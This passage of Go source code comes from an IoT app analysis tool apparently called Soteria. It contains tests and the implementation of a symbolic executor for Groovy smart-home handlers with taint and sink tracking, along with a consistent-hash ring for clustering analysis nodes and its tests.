        } else {
            sw.on()
        }
    }
}
`, "h")
	ons := pathsWithAction(r, "sw.switch:=on")
	if len(ons) != 1 {
		t.Fatalf("on paths = %d", len(ons))
	}
	// Guard: p > 10 && p <= 100.
	if !pathcond.Feasible(ons[0].Guard) {
		t.Error("on guard should be feasible")
	}
	hasUpper := false
	for _, a := range ons[0].Guard.Atoms {
		if a.Op == pathcond.LE && a.Num == 100 {
			hasUpper = true
		}
	}
	if !hasUpper {
		t.Errorf("on guard = %s", ons[0].Guard)
	}
}

func TestSwitchStatementPaths(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "contact", h) }
def h(evt) {
    switch (evt.value) {
        case "open":
            sw.on()
            break
        case "closed":
            sw.off()
            break
    }
}
`, "h")
	if len(pathsWithAction(r, "sw.switch:=on")) != 1 {
		t.Errorf("on paths missing; %+v", r.Paths)
	}
	if len(pathsWithAction(r, "sw.switch:=off")) != 1 {
		t.Errorf("off paths missing; %+v", r.Paths)
	}
	ons := pathsWithAction(r, "sw.switch:=on")
	found := false
	for _, a := range ons[0].Guard.Atoms {
		if a.Var == "evt.value" && a.Str == "open" && a.Op == pathcond.EQ {
			found = true
		}
	}
	if !found {
		t.Errorf("case guard = %s", ons[0].Guard)
	}
}

func TestClosureBodyEffects(t *testing.T) {
	// Actions inside platform-call closures (e.g. httpGet) are real.
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    httpGet("http://x") { resp ->
        sw.off()
    }
}
`, "h")
	if len(pathsWithAction(r, "sw.switch:=off")) == 0 {
		t.Errorf("closure action missing; %+v", r.Paths)
	}
}

func TestTimerEntryNoParams(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { runIn(60, offHandler) }
def offHandler() { sw.off() }
`, "offHandler")
	if len(pathsWithAction(r, "sw.switch:=off")) != 1 {
		t.Errorf("paths = %+v", r.Paths)
	}
}

func TestWarningsOnPathExplosionAbsentForSmallApps(t *testing.T) {
	app, err := ir.BuildSource("smoke-alarm", paperapps.SmokeAlarm)
	if err != nil {
		t.Fatal(err)
	}
	for _, ep := range app.EntryPoints {
		r := Execute(app, ep)
		for _, w := range r.Warnings {
			if strings.Contains(w, "explosion") {
				t.Errorf("unexpected warning: %s", w)
			}
		}
	}
}

func TestRecursionGuard(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "sw", "capability.switch" } }
def installed() { subscribe(sw, "switch", h) }
def h(evt) {
    helper()
}
def helper() {
    helper()
    sw.on()
}
`, "h")
	// Must terminate and still record the action.
	if len(pathsWithAction(r, "sw.switch:=on")) == 0 {
		t.Errorf("paths = %+v", r.Paths)
	}
}

func TestTernaryForksPaths(t *testing.T) {
	r := execEntry(t, `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "meter", "capability.powerMeter"
    }
}
def installed() { subscribe(meter, "power", h) }
def h(evt) {
    def p = meter.currentValue("power")
    ther.setHeatingSetpoint(p > 100 ? 60 : 72)
}
`, "h")
	vals := map[string]bool{}
	for _, p := range r.Paths {
		for _, a := range p.Actions {
			vals[a.Value] = true
		}
	}
	if !vals["60"] || !vals["72"] {
		t.Errorf("ternary should fork both setpoints; paths = %+v", r.Paths)
	}
}

func TestElvisPrefersValueSide(t *testing.T) {
	// thrshld ?: 10 — the user input is set at install time, so the
	// symbolic value side wins (the paper's IR shows this pattern in
	// Fig. 5).
	r := execEntry(t, `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "thrshld", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    ther.setHeatingSetpoint(thrshld ?: 10)
}
`, "h")
	if len(r.Paths) != 1 {
		t.Fatalf("paths = %d", len(r.Paths))
	}
	a := r.Paths[0].Actions[0]
	if a.Value != "thrshld" || !a.Symbolic {
		t.Errorf("action = %+v", a)
	}
}

func TestConcreteNullElvisTakesDefault(t *testing.T) {
	r := execEntry(t, `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def x = null
    ther.setHeatingSetpoint(x ?: 65)
}
`, "h")
	a := r.Paths[0].Actions[0]
	if a.Value != "65" {
		t.Errorf("action = %+v", a)
	}
}

func TestGuardProvenanceLabels(t *testing.T) {
	// §4.2.2: predicate components are labeled by source — the
	// comparison of a device read against a developer constant carries
	// device-state / developer-defined provenance.
	r := execEntry(t, `
preferences {
    section("s") {
        input "sw", "capability.switch"
        input "meter", "capability.powerMeter"
    }
}
def installed() { subscribe(meter, "power", h) }
def h(evt) {
    if (meter.currentValue("power") > 50) {
        sw.off()
    }
}
`, "h")
	offs := pathsWithAction(r, "sw.switch:=off")
	if len(offs) != 1 {
		t.Fatalf("paths = %+v", r.Paths)
	}
	var atom *pathcond.Atom
	for i := range offs[0].Guard.Atoms {
		if offs[0].Guard.Atoms[i].Var == "meter.power" {
			atom = &offs[0].Guard.Atoms[i]
		}
	}
	if atom == nil {
		t.Fatalf("guard = %s", offs[0].Guard)
	}
	if atom.VarKind != pathcond.DeviceState || atom.CmpKind != pathcond.DeveloperDefined {
		t.Errorf("provenance = %s / %s", atom.VarKind, atom.CmpKind)
	}
}
