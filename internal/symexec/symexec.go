// Package symexec implements Soteria's forward path-sensitive symbolic
// execution of event handlers (paper §4.2.2).
//
// Starting at an entry point's handler (the dummy main), the executor
// explores every path, accumulating a path condition built from the
// custom path-condition fragment (internal/pathcond) and collecting
// the device actions performed along the path. Method calls are
// inlined (with a recursion guard); calls by reflection fork one path
// per possible target method, the paper's safe over-approximation.
// Infeasible paths are discarded as soon as their condition becomes
// unsatisfiable, and paths with identical end states are merged in the
// style of the ESP algorithm.
//
// The resulting per-entry-point paths are what the state-model builder
// (internal/statemodel) turns into predicate-labeled transitions, and
// what the general properties S.1/S.2 inspect directly.
package symexec

import (
	"fmt"
	"sort"
	"strings"

	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/pathcond"
)

// ValKind is the kind of a symbolic value.
type ValKind int

// Value kinds.
const (
	KNull ValKind = iota
	KNum
	KStr
	KBool
	KSym // symbolic: identified by a canonical name
)

// Value is a value in the symbolic environment.
type Value struct {
	Kind    ValKind
	Num     float64
	Str     string
	Bool    bool
	Sym     string // canonical name, e.g. "evt.value", "the_battery.battery", "thrshld"
	SymKind pathcond.SourceKind
	// Taint carries explicit taint marks accumulated by propagation
	// through expressions (string interpolation, concatenation, opaque
	// calls). When empty, marks are derived from the value's own
	// provenance — see Labels.
	Taint []Label
}

// Label is one taint mark on a value: the provenance kind and the
// canonical source variable the data came from.
type Label struct {
	Kind pathcond.SourceKind
	Var  string
}

// Labels returns the value's taint marks. Explicit marks win;
// otherwise a mark is derived from the value's provenance: event
// fields ("evt", "evt.value"), device attribute reads
// ("the_battery.battery", "location.mode"), install-time user inputs,
// and persistent state fields are sensitive sources. Bare
// pseudo-globals ("location", "state", "settings", ...) and opaque
// symbols are not.
func (v Value) Labels() []Label {
	if len(v.Taint) > 0 {
		return v.Taint
	}
	if v.Kind != KSym {
		return nil
	}
	switch v.SymKind {
	case pathcond.UserDefined, pathcond.StateVariable:
		return []Label{{Kind: v.SymKind, Var: v.Sym}}
	case pathcond.DeviceState:
		// "evt" is the event object itself; dotted symbols are attribute
		// reads. Bare device handles and pseudo-globals stay unmarked —
		// reading an attribute off them mints a fresh symbol anyway.
		if v.Sym == "evt" || strings.Contains(v.Sym, ".") {
			return []Label{{Kind: pathcond.DeviceState, Var: v.Sym}}
		}
	}
	return nil
}

// unionLabels merges label sets into one deduplicated, sorted set so
// downstream renderings are deterministic.
func unionLabels(sets ...[]Label) []Label {
	var all []Label
	for _, s := range sets {
		all = append(all, s...)
	}
	if len(all) == 0 {
		return nil
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].Kind != all[j].Kind {
			return all[i].Kind < all[j].Kind
		}
		return all[i].Var < all[j].Var
	})
	out := all[:1]
	for _, l := range all[1:] {
		if l != out[len(out)-1] {
			out = append(out, l)
		}
	}
	return out
}

// NumVal constructs a concrete numeric value.
func NumVal(v float64) Value { return Value{Kind: KNum, Num: v} }

// StrVal constructs a concrete string value.
func StrVal(s string) Value { return Value{Kind: KStr, Str: s} }

// BoolVal constructs a concrete boolean value.
func BoolVal(b bool) Value { return Value{Kind: KBool, Bool: b} }

// SymVal constructs a symbolic value with a provenance label.
func SymVal(name string, kind pathcond.SourceKind) Value {
	return Value{Kind: KSym, Sym: name, SymKind: kind}
}

// Label renders the value for action labels.
func (v Value) Label() string {
	switch v.Kind {
	case KNum:
		return fmt.Sprintf("%g", v.Num)
	case KStr:
		return v.Str
	case KBool:
		return fmt.Sprintf("%t", v.Bool)
	case KSym:
		return v.Sym
	}
	return "null"
}

// Action is one device actuation recorded on a path.
type Action struct {
	Handle string // device handle; "location" for setLocationMode
	Cap    string // capability name
	Attr   string // attribute changed
	Value  string // new value: enum value, constant, or source label
	// Symbolic is set when Value is a source label (user input, device
	// read) rather than a constant/enum value.
	Symbolic bool
	// ValueKind is the provenance of a symbolic Value.
	ValueKind pathcond.SourceKind
	Method    string
	Pos       groovy.Pos
}

// Key identifies the attribute the action writes.
func (a Action) Key() string { return a.Handle + "." + a.Attr }

func (a Action) String() string {
	return fmt.Sprintf("%s.%s:=%s", a.Handle, a.Attr, a.Value)
}

// Path is one merged execution path of an entry point.
type Path struct {
	Guard   pathcond.Cond
	Actions []Action
}

// ActionsSignature is a canonical rendering of the path's action
// sequence, used for ESP merging and S.1/S.2 checks.
func (p Path) ActionsSignature() string {
	parts := make([]string, len(p.Actions))
	for i, a := range p.Actions {
		parts[i] = a.String()
	}
	return strings.Join(parts, ";")
}

// SinkCall is one call to a transmission primitive (messaging or
// network) observed on some path, with the path condition that reaches
// the call site and the taint marks of every evaluated argument. Sinks
// are recorded outside Path on purpose: they must not perturb ESP
// merging, the action signatures, or the state model.
type SinkCall struct {
	Name string // platform call name ("sendSms", "httpPost", ...)
	Pos  groovy.Pos
	Args []SinkArg
	// Guard is the path condition at the call site (not the path's
	// final guard): the condition under which the transmission happens.
	Guard pathcond.Cond
}

// SinkArg is one evaluated sink argument.
type SinkArg struct {
	Text  string // rendered argument value
	Taint []Label
}

// identity keys a sink call for deduplication across the path states
// that observed it: call site, rendered arguments, and their taint.
func (s SinkCall) identity() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s@%d:%d", s.Name, s.Pos.Line, s.Pos.Col)
	for _, a := range s.Args {
		sb.WriteString("|")
		sb.WriteString(a.Text)
		for _, l := range a.Taint {
			fmt.Fprintf(&sb, "^%d:%s", l.Kind, l.Var)
		}
	}
	return sb.String()
}

// Result is the symbolic execution outcome for one entry point.
type Result struct {
	Entry    *ir.EntryPoint
	Paths    []Path
	Explored int // paths explored before ESP merging
	Merged   int // paths merged away by ESP merging
	// Sinks are the transmission calls observed across all paths,
	// deduplicated, with ESP-style guard merging, in source order.
	Sinks    []SinkCall
	Warnings []string
}

const (
	maxPaths       = 1024
	maxInlineDepth = 8
)

// Execute symbolically executes one entry point of the app.
func Execute(app *ir.App, ep *ir.EntryPoint) *Result {
	x := &executor{app: app}
	seed := newPState()
	seed.pushFrame()
	// Bind the handler's event parameter to the symbolic event.
	if len(ep.Handler.Params) > 0 {
		seed.setLocal(ep.Handler.Params[0], SymVal("evt", pathcond.DeviceState))
	}
	// A subscription to a specific value ("water.wet") constrains
	// evt.value on every path.
	if ep.Sub.Value != "" {
		seed.guard = seed.guard.WithAtom(pathcond.Atom{
			Var: "evt.value", Op: pathcond.EQ, Str: ep.Sub.Value,
			VarKind: pathcond.DeviceState,
		})
	}
	final := x.execBlock(ep.Handler.Body, []*pstate{seed})
	res := &Result{Entry: ep, Explored: len(final), Warnings: x.warnings}
	res.Paths, res.Merged = mergePaths(final)
	res.Sinks = collectSinks(final)
	return res
}

// collectSinks deduplicates the sink calls recorded across final path
// states. A sink recorded before a fork appears in every descendant
// state with the same call-site guard — those collapse to one entry —
// while identical transmissions reached on complementary branches have
// their guards merged the same way path guards are.
func collectSinks(finals []*pstate) []SinkCall {
	type group struct {
		sink   SinkCall
		guards []pathcond.Cond
	}
	groups := map[string]*group{}
	var order []string
	for _, p := range finals {
		for _, s := range p.sinks {
			k := s.identity()
			g, ok := groups[k]
			if !ok {
				g = &group{sink: s}
				groups[k] = g
				order = append(order, k)
			}
			g.guards = append(g.guards, s.Guard)
		}
	}
	var out []SinkCall
	for _, k := range order {
		g := groups[k]
		guards, _ := mergeGuards(g.guards)
		for _, gu := range guards {
			s := g.sink
			s.Guard = gu
			out = append(out, s)
		}
	}
	sort.SliceStable(out, func(i, j int) bool {
		if out[i].Pos.Line != out[j].Pos.Line {
			return out[i].Pos.Line < out[j].Pos.Line
		}
		if out[i].Pos.Col != out[j].Pos.Col {
			return out[i].Pos.Col < out[j].Pos.Col
		}
		if ki, kj := out[i].identity(), out[j].identity(); ki != kj {
			return ki < kj
		}
		return out[i].Guard.Canonical() < out[j].Guard.Canonical()
	})
	return out
}

// ExecuteAll runs Execute for every entry point.
func ExecuteAll(app *ir.App) []*Result {
	out := make([]*Result, 0, len(app.EntryPoints))
	for _, ep := range app.EntryPoints {
		out = append(out, Execute(app, ep))
	}
	return out
}

// pstate is the executor's per-path state.
type pstate struct {
	guard   pathcond.Cond
	frames  []map[string]Value // innermost frame last
	actions []Action
	sinks   []SinkCall // transmission calls observed on this path
	ret     *Value     // non-nil once a return executed in the current method
	depth   int
	stack   []string // inlined call stack (recursion guard)
}

func newPState() *pstate {
	return &pstate{guard: pathcond.True()}
}

func (p *pstate) clone() *pstate {
	q := &pstate{
		guard:   p.guard,
		frames:  make([]map[string]Value, len(p.frames)),
		actions: append([]Action{}, p.actions...),
		sinks:   append([]SinkCall{}, p.sinks...),
		depth:   p.depth,
		stack:   append([]string{}, p.stack...),
	}
	for i, f := range p.frames {
		nf := make(map[string]Value, len(f))
		for k, v := range f {
			nf[k] = v
		}
		q.frames[i] = nf
	}
	if p.ret != nil {
		r := *p.ret
		q.ret = &r
	}
	return q
}

func (p *pstate) pushFrame() { p.frames = append(p.frames, map[string]Value{}) }
func (p *pstate) popFrame()  { p.frames = p.frames[:len(p.frames)-1] }

func (p *pstate) lookup(name string) (Value, bool) {
	for i := len(p.frames) - 1; i >= 0; i-- {
		if v, ok := p.frames[i][name]; ok {
			return v, true
		}
	}
	return Value{}, false
}

// setLocal declares name in the innermost frame.
func (p *pstate) setLocal(name string, v Value) {
	p.frames[len(p.frames)-1][name] = v
}

// assign updates name in the frame that declares it, or declares it in
// the innermost frame (Groovy's script-style implicit declaration).
func (p *pstate) assign(name string, v Value) {
	for i := len(p.frames) - 1; i >= 0; i-- {
		if _, ok := p.frames[i][name]; ok {
			p.frames[i][name] = v
			return
		}
	}
	p.setLocal(name, v)
}

type executor struct {
	app      *ir.App
	warnings []string
	paths    int
}

func (x *executor) warnf(format string, args ...any) {
	if len(x.warnings) < 100 {
		x.warnings = append(x.warnings, fmt.Sprintf(format, args...))
	}
}

// ---------------------------------------------------------------------------
// Statement execution

// execBlock executes stmts over every live path.
func (x *executor) execBlock(b *groovy.Block, paths []*pstate) []*pstate {
	if b == nil {
		return paths
	}
	for _, s := range b.Stmts {
		var next []*pstate
		for _, p := range paths {
			if p.ret != nil {
				next = append(next, p) // returned: skip remaining stmts
				continue
			}
			next = append(next, x.execStmt(s, p)...)
		}
		paths = next
		if len(paths) > maxPaths {
			x.warnf("path explosion: truncating to %d paths", maxPaths)
			paths = paths[:maxPaths]
		}
	}
	return paths
}

func (x *executor) execStmt(s groovy.Stmt, p *pstate) []*pstate {
	switch st := s.(type) {
	case *groovy.ExprStmt:
		return dropVals(x.eval(st.X, p))

	case *groovy.DeclStmt:
		if st.Init == nil {
			p.setLocal(st.Name, Value{Kind: KNull})
			return []*pstate{p}
		}
		outs := x.eval(st.Init, p)
		for _, o := range outs {
			o.p.setLocal(st.Name, o.v)
		}
		return dropVals(outs)

	case *groovy.AssignStmt:
		outs := x.eval(st.RHS, p)
		var res []*pstate
		for _, o := range outs {
			x.assignTo(st.LHS, o.v, st.Op, o.p)
			res = append(res, o.p)
		}
		return res

	case *groovy.IncDecStmt:
		// x++ on locals: adjust concrete numbers, symbolise otherwise.
		if id, ok := st.X.(*groovy.Ident); ok {
			if v, found := p.lookup(id.Name); found && v.Kind == KNum {
				d := 1.0
				if st.Decr {
					d = -1
				}
				p.assign(id.Name, NumVal(v.Num+d))
				return []*pstate{p}
			}
			p.assign(id.Name, SymVal(id.Name+"'", pathcond.UnknownSource))
		}
		return []*pstate{p}

	case *groovy.IfStmt:
		return x.execIf(st, p)

	case *groovy.WhileStmt:
		// Bounded: execute the body at most once (IoT handlers use
		// loops only for retries/iteration over event lists).
		skip := p.clone()
		taken, _ := x.branch(st.Cond, p)
		var out []*pstate
		if taken != nil {
			out = append(out, x.execBlock(st.Body, []*pstate{taken})...)
		}
		out = append(out, skip)
		return out

	case *groovy.ForInStmt:
		skip := p.clone()
		body := p
		body.pushFrame()
		body.setLocal(st.Var, SymVal(st.Var, pathcond.UnknownSource))
		outs := x.execBlock(st.Body, []*pstate{body})
		for _, o := range outs {
			o.popFrame()
		}
		return append(outs, skip)

	case *groovy.ReturnStmt:
		if st.X == nil {
			v := Value{Kind: KNull}
			p.ret = &v
			return []*pstate{p}
		}
		outs := x.eval(st.X, p)
		for _, o := range outs {
			v := o.v
			o.p.ret = &v
		}
		return dropVals(outs)

	case *groovy.BreakStmt, *groovy.ContinueStmt:
		// Loop bodies run at most once, so break/continue simply end
		// the (single) iteration.
		return []*pstate{p}

	case *groovy.SwitchStmt:
		return x.execSwitch(st, p)

	case *groovy.Block:
		p.pushFrame()
		outs := x.execBlock(st, []*pstate{p})
		for _, o := range outs {
			o.popFrame()
		}
		return outs
	}
	return []*pstate{p}
}

// assignTo performs an assignment to an lvalue.
func (x *executor) assignTo(lhs groovy.Expr, v Value, op groovy.TokKind, p *pstate) {
	if op != groovy.ASSIGN {
		// += / -= : fold when concrete, symbolise otherwise.
		if id, ok := lhs.(*groovy.Ident); ok {
			if cur, found := p.lookup(id.Name); found && cur.Kind == KNum && v.Kind == KNum {
				if op == groovy.PLUSASSIGN {
					p.assign(id.Name, NumVal(cur.Num+v.Num))
				} else {
					p.assign(id.Name, NumVal(cur.Num-v.Num))
				}
				return
			}
			p.assign(id.Name, SymVal(id.Name+"'", pathcond.UnknownSource))
		}
		return
	}
	switch l := lhs.(type) {
	case *groovy.Ident:
		p.assign(l.Name, v)
	case *groovy.PropExpr:
		if f, ok := ir.StateFieldRef(l); ok {
			// Persistent state writes keep the symbolic binding so
			// later reads in the same handler observe it.
			p.assign("state."+f, v)
			return
		}
	case *groovy.IndexExpr:
		// Collection writes are not tracked.
	}
}

func (x *executor) execIf(st *groovy.IfStmt, p *pstate) []*pstate {
	taken, notTaken := x.branch(st.Cond, p)
	var out []*pstate
	if taken != nil {
		out = append(out, x.execBlock(st.Then, []*pstate{taken})...)
	}
	if notTaken != nil {
		if st.Else != nil {
			out = append(out, x.execStmt(st.Else, notTaken)...)
		} else {
			out = append(out, notTaken)
		}
	}
	return out
}

func (x *executor) execSwitch(st *groovy.SwitchStmt, p *pstate) []*pstate {
	var out []*pstate
	fall := p // path on which no previous case matched
	matchedAll := false
	var defaultBody []groovy.Stmt
	for _, c := range st.Cases {
		if c.Value == nil {
			defaultBody = c.Body
			continue
		}
		eq := &groovy.BinaryExpr{Op: groovy.EQ, L: st.Tag, R: c.Value, Pos: c.Pos}
		taken, notTaken := x.branch(eq, fall)
		if taken != nil {
			blk := &groovy.Block{Stmts: c.Body, Pos: c.Pos}
			out = append(out, x.execBlock(blk, []*pstate{taken})...)
		}
		if notTaken == nil {
			matchedAll = true
			break
		}
		fall = notTaken
	}
	if !matchedAll {
		if defaultBody != nil {
			blk := &groovy.Block{Stmts: defaultBody}
			out = append(out, x.execBlock(blk, []*pstate{fall})...)
		} else {
			out = append(out, fall)
		}
	}
	return out
}

// branch evaluates a condition on p, returning the taken/not-taken
// path states (nil when that polarity is infeasible or decided away).
func (x *executor) branch(cond groovy.Expr, p *pstate) (taken, notTaken *pstate) {
	v := x.evalPure(cond, p)
	if v.Kind == KBool {
		if v.Bool {
			return p, nil
		}
		return nil, p
	}
	ct := x.condOf(cond, false, p)
	cf := x.condOf(cond, true, p)
	tp := p.clone()
	tp.guard = tp.guard.And(ct)
	fp := p
	fp.guard = fp.guard.And(cf)
	if !pathcond.Feasible(tp.guard) {
		tp = nil
	}
	if !pathcond.Feasible(fp.guard) {
		fp = nil
	}
	return tp, fp
}
