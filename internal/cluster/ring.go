// Package cluster turns N soteriad processes into one analysis fleet.
//
// Ownership is decided by a consistent-hash ring over analysis keys
// (core.AnalysisKey — the content address of a result): each node
// projects VirtualNodes points onto a 64-bit circle, and a key belongs
// to the node whose point follows the key's hash clockwise. The ring
// is:
//
//   - deterministic: every node computes the identical ring from the
//     identical member list, whatever order the list arrives in, so a
//     statically configured fleet needs no coordination protocol;
//   - balanced: with the default 128 virtual nodes per member, the
//     largest ownership share stays within a few tens of percent of
//     the smallest (asserted by tests);
//   - stable under membership change: adding or removing one node
//     remaps only the keys that node gains or loses — about 1/N of
//     the space, bounded by 2/N in tests — while every other key keeps
//     its owner. That bound is what makes rolling a fleet restart
//     cheap: the store survives on each node, and only a sliver of
//     keys migrate to a new owner's cache.
//
// Membership is static (the soteriad -peers flag); liveness is handled
// above the ring by request routing's local-fallback path, never by
// mutating the ring — so two nodes with the same config can never
// disagree about ownership, even mid-failure.
package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"sort"
)

// DefaultVirtualNodes is the per-member point count when a Ring is
// built with vnodes <= 0. 128 keeps the max/min ownership spread
// under ~2x for small fleets while the ring stays tiny (N*128 points).
const DefaultVirtualNodes = 128

// Ring is an immutable consistent-hash ring. Build one with NewRing;
// all methods are safe for concurrent use.
type Ring struct {
	members []string // sorted, deduplicated
	vnodes  int
	points  []ringPoint // sorted by hash, ties broken by member then index
}

type ringPoint struct {
	hash   uint64
	member int // index into members
}

// NewRing builds a ring over members with vnodes points per member
// (<= 0 uses DefaultVirtualNodes). The member list is sorted and
// deduplicated, so any ordering of the same set yields the identical
// ring. An empty member list is an error: a ring with no owners can
// answer nothing.
func NewRing(members []string, vnodes int) (*Ring, error) {
	if vnodes <= 0 {
		vnodes = DefaultVirtualNodes
	}
	sorted := append([]string{}, members...)
	sort.Strings(sorted)
	dedup := sorted[:0]
	for i, m := range sorted {
		if m == "" {
			return nil, fmt.Errorf("cluster: empty ring member")
		}
		if i > 0 && m == sorted[i-1] {
			continue
		}
		dedup = append(dedup, m)
	}
	if len(dedup) == 0 {
		return nil, fmt.Errorf("cluster: ring needs at least one member")
	}
	r := &Ring{
		members: dedup,
		vnodes:  vnodes,
		points:  make([]ringPoint, 0, len(dedup)*vnodes),
	}
	for mi, m := range r.members {
		for v := 0; v < vnodes; v++ {
			r.points = append(r.points, ringPoint{
				hash:   pointHash(m, v),
				member: mi,
			})
		}
	}
	sort.Slice(r.points, func(i, j int) bool {
		a, b := r.points[i], r.points[j]
		if a.hash != b.hash {
			return a.hash < b.hash
		}
		// A full-64-bit collision between distinct (member, vnode)
		// pairs is astronomically unlikely, but the tie-break keeps the
		// ring order fully deterministic even then.
		return r.members[a.member] < r.members[b.member]
	})
	return r, nil
}

// pointHash places one (member, vnode) pair on the circle. SHA-256 of
// the length-prefixed pair: collision-resistant, stable across
// processes and architectures (unlike maphash), and cheap enough for a
// build-once ring.
func pointHash(member string, vnode int) uint64 {
	h := sha256.New()
	fmt.Fprintf(h, "%d:%s#%d", len(member), member, vnode)
	return binary.BigEndian.Uint64(h.Sum(nil)[:8])
}

// keyHash places an analysis key on the circle. Analysis keys are
// already uniform SHA-256 hex, but hashing again keeps the ring
// correct for arbitrary key strings (tests, synthetic keys).
func keyHash(key string) uint64 {
	sum := sha256.Sum256([]byte(key))
	return binary.BigEndian.Uint64(sum[:8])
}

// Members returns the ring's member list, sorted. The slice is shared:
// callers must not mutate it.
func (r *Ring) Members() []string { return r.members }

// VirtualNodes reports the per-member point count.
func (r *Ring) VirtualNodes() int { return r.vnodes }

// Owner returns the member owning key: the member whose point is the
// first at or after the key's hash, wrapping at the top of the circle.
func (r *Ring) Owner(key string) string {
	return r.members[r.ownerIndex(keyHash(key))]
}

func (r *Ring) ownerIndex(h uint64) int {
	i := sort.Search(len(r.points), func(i int) bool { return r.points[i].hash >= h })
	if i == len(r.points) {
		i = 0
	}
	return r.points[i].member
}

// Shares estimates each member's ownership fraction by walking the arc
// length every member owns on the circle. Exact for the hash space
// (not a sample), so tests can assert balance deterministically.
func (r *Ring) Shares() map[string]float64 {
	out := make(map[string]float64, len(r.members))
	if len(r.points) == 0 {
		return out
	}
	const whole = float64(1 << 63) * 2 // 2^64 as float
	arc := make([]uint64, len(r.members))
	// The arc ending at points[i] (exclusive of the previous point)
	// belongs to points[i]'s member; the wrap-around arc from the last
	// point to the first belongs to the first point's member.
	prev := r.points[len(r.points)-1].hash
	for _, p := range r.points {
		arc[p.member] += p.hash - prev // uint64 wrap handles the seam
		prev = p.hash
	}
	for mi, m := range r.members {
		out[m] = float64(arc[mi]) / whole
	}
	return out
}
