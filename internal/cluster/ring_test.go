package cluster

import (
	"fmt"
	"testing"
)

func mustRing(t *testing.T, members []string, vnodes int) *Ring {
	t.Helper()
	r, err := NewRing(members, vnodes)
	if err != nil {
		t.Fatalf("NewRing(%v): %v", members, err)
	}
	return r
}

func testKeys(n int) []string {
	keys := make([]string, n)
	for i := range keys {
		keys[i] = fmt.Sprintf("%064x", i*2654435761)
	}
	return keys
}

func TestRingRejectsEmptyAndBlank(t *testing.T) {
	if _, err := NewRing(nil, 0); err == nil {
		t.Fatal("empty member list accepted")
	}
	if _, err := NewRing([]string{"a", ""}, 0); err == nil {
		t.Fatal("blank member accepted")
	}
}

// TestRingDeterministicOrdering: the same member set in any order
// yields identical ownership for every key.
func TestRingDeterministicOrdering(t *testing.T) {
	members := []string{"http://n1:8380", "http://n2:8380", "http://n3:8380"}
	a := mustRing(t, members, 0)
	b := mustRing(t, []string{members[2], members[0], members[1], members[0]}, 0)
	for _, k := range testKeys(2000) {
		if a.Owner(k) != b.Owner(k) {
			t.Fatalf("rings from reordered members disagree on %s: %s vs %s",
				k, a.Owner(k), b.Owner(k))
		}
	}
}

// TestRingBalance: with default vnodes, no member owns more than twice
// the fair share nor less than half of it — both on sampled keys and
// on the exact arc-length shares.
func TestRingBalance(t *testing.T) {
	for _, n := range []int{2, 3, 5, 8} {
		members := make([]string, n)
		for i := range members {
			members[i] = fmt.Sprintf("http://node-%d:8380", i)
		}
		r := mustRing(t, members, 0)
		counts := map[string]int{}
		keys := testKeys(20000)
		for _, k := range keys {
			counts[r.Owner(k)]++
		}
		fair := float64(len(keys)) / float64(n)
		for m, c := range counts {
			if float64(c) > 2*fair || float64(c) < fair/2 {
				t.Errorf("n=%d: member %s owns %d of %d keys (fair %.0f)", n, m, c, len(keys), fair)
			}
		}
		shares := r.Shares()
		total := 0.0
		for m, s := range shares {
			total += s
			if s > 2.0/float64(n) || s < 0.5/float64(n) {
				t.Errorf("n=%d: member %s arc share %.3f outside [%.3f, %.3f]",
					n, m, s, 0.5/float64(n), 2.0/float64(n))
			}
		}
		if total < 0.999 || total > 1.001 {
			t.Errorf("n=%d: arc shares sum to %.6f, want 1", n, total)
		}
	}
}

// TestRingMinimalRemappingOnJoin: growing an N-node ring by one node
// remaps at most 2/N of the keys, and every remapped key moves TO the
// new node (no unrelated churn).
func TestRingMinimalRemappingOnJoin(t *testing.T) {
	for _, n := range []int{2, 3, 4, 8} {
		members := make([]string, n)
		for i := range members {
			members[i] = fmt.Sprintf("http://node-%d:8380", i)
		}
		joined := append(append([]string{}, members...), "http://node-new:8380")
		before := mustRing(t, members, 0)
		after := mustRing(t, joined, 0)

		keys := testKeys(20000)
		moved := 0
		for _, k := range keys {
			was, now := before.Owner(k), after.Owner(k)
			if was == now {
				continue
			}
			moved++
			if now != "http://node-new:8380" {
				t.Fatalf("n=%d: key %s moved %s → %s, not to the joining node", n, k, was, now)
			}
		}
		bound := 2.0 / float64(n) * float64(len(keys))
		if float64(moved) > bound {
			t.Errorf("n=%d: join remapped %d/%d keys, bound 2/N = %.0f", n, moved, len(keys), bound)
		}
		if moved == 0 {
			t.Errorf("n=%d: join remapped nothing — new node owns no keys", n)
		}
	}
}

// TestRingMinimalRemappingOnLeave: removing one node remaps only that
// node's keys, at most 2/N of the space; keys owned by survivors stay.
func TestRingMinimalRemappingOnLeave(t *testing.T) {
	for _, n := range []int{3, 4, 8} {
		members := make([]string, n)
		for i := range members {
			members[i] = fmt.Sprintf("http://node-%d:8380", i)
		}
		gone := members[n/2]
		var rest []string
		for _, m := range members {
			if m != gone {
				rest = append(rest, m)
			}
		}
		before := mustRing(t, members, 0)
		after := mustRing(t, rest, 0)

		keys := testKeys(20000)
		moved := 0
		for _, k := range keys {
			was, now := before.Owner(k), after.Owner(k)
			if was == now {
				continue
			}
			moved++
			if was != gone {
				t.Fatalf("n=%d: key %s moved %s → %s although its owner never left", n, k, was, now)
			}
		}
		bound := 2.0 / float64(n) * float64(len(keys))
		if float64(moved) > bound {
			t.Errorf("n=%d: leave remapped %d/%d keys, bound 2/N = %.0f", n, moved, len(keys), bound)
		}
	}
}

// TestRingSingleMember: every key maps to the only node.
func TestRingSingleMember(t *testing.T) {
	r := mustRing(t, []string{"http://solo:1"}, 4)
	for _, k := range testKeys(100) {
